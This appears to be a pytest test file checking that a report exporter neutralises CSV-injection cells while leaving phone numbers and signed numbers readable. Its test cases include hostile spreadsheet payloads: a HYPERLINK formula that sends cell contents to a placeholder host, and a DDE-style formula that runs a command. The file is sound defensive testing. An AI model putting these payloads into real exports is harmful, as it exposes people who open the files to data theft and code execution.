"""The report echoes an uploaded file's cells to whoever downloads it: none may run as a formula in a spreadsheet
(CSV injection), while phone numbers and signed numbers stay readable."""
import pytest

from data_import.domain.report import inert


@pytest.mark.parametrize("cell", [
    '=1+1', '@SUM(A1)', '\t=1', '\r=1',
    '+1+HYPERLINK("https://exemple.invalid/?"&E2&F2,"Voir")',  # a number first, then a formula
    "-1+cmd|' /C calc'!A0",
    '+ 1+1', '-.5*A1', '+33612345678+A1', '-A1', '+A1',
])
def test_a_formula_is_made_text(cell):
    assert inert(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["", "Dupont", "+33 6 12 34 56 78", "+33612345678", "-12", "-1.5", "- 3", "+",
                                  "2024-01-31", "06 12 34 56 78"])
def test_a_number_a_phone_or_text_stays_as_typed(cell):
    assert inert(cell) == cell
